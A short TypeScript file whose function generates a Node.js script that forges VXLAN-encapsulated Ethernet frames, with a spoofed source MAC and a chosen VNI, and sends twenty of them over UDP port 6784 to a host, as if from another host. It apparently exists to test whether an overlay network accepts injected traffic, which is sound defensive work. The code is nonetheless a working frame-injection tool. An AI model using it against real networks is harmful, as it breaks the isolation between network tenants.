/** A program for Node.js that does what a forger would: VXLAN to a host, as if it came from another one. */

/** Sends twenty frames to MAC, wrapped for VNI, to UDP 6784 of HOST, and says so. */
export function forge(target: { vni: number; mac: string; host: string }): string {
  return `
    const { vni, mac, host } = ${JSON.stringify(target)}
    const head = Buffer.alloc(8)
    head.writeUInt8(8, 0)
    head.writeUIntBE(vni, 4, 3)
    const frame = Buffer.concat([
      Buffer.from(mac.replaceAll(':', '') + '02000000aaaa' + '88b5', 'hex'), Buffer.alloc(50)])
    const socket = require('dgram').createSocket(host.includes(':') ? 'udp6' : 'udp4')
    let sent = 0
    for (let n = 0; n < 20; n++) socket.send(Buffer.concat([head, frame]), 6784, host, () => {
      if (++sent === 20) { console.log('sent', sent); socket.close() }
    })`
}
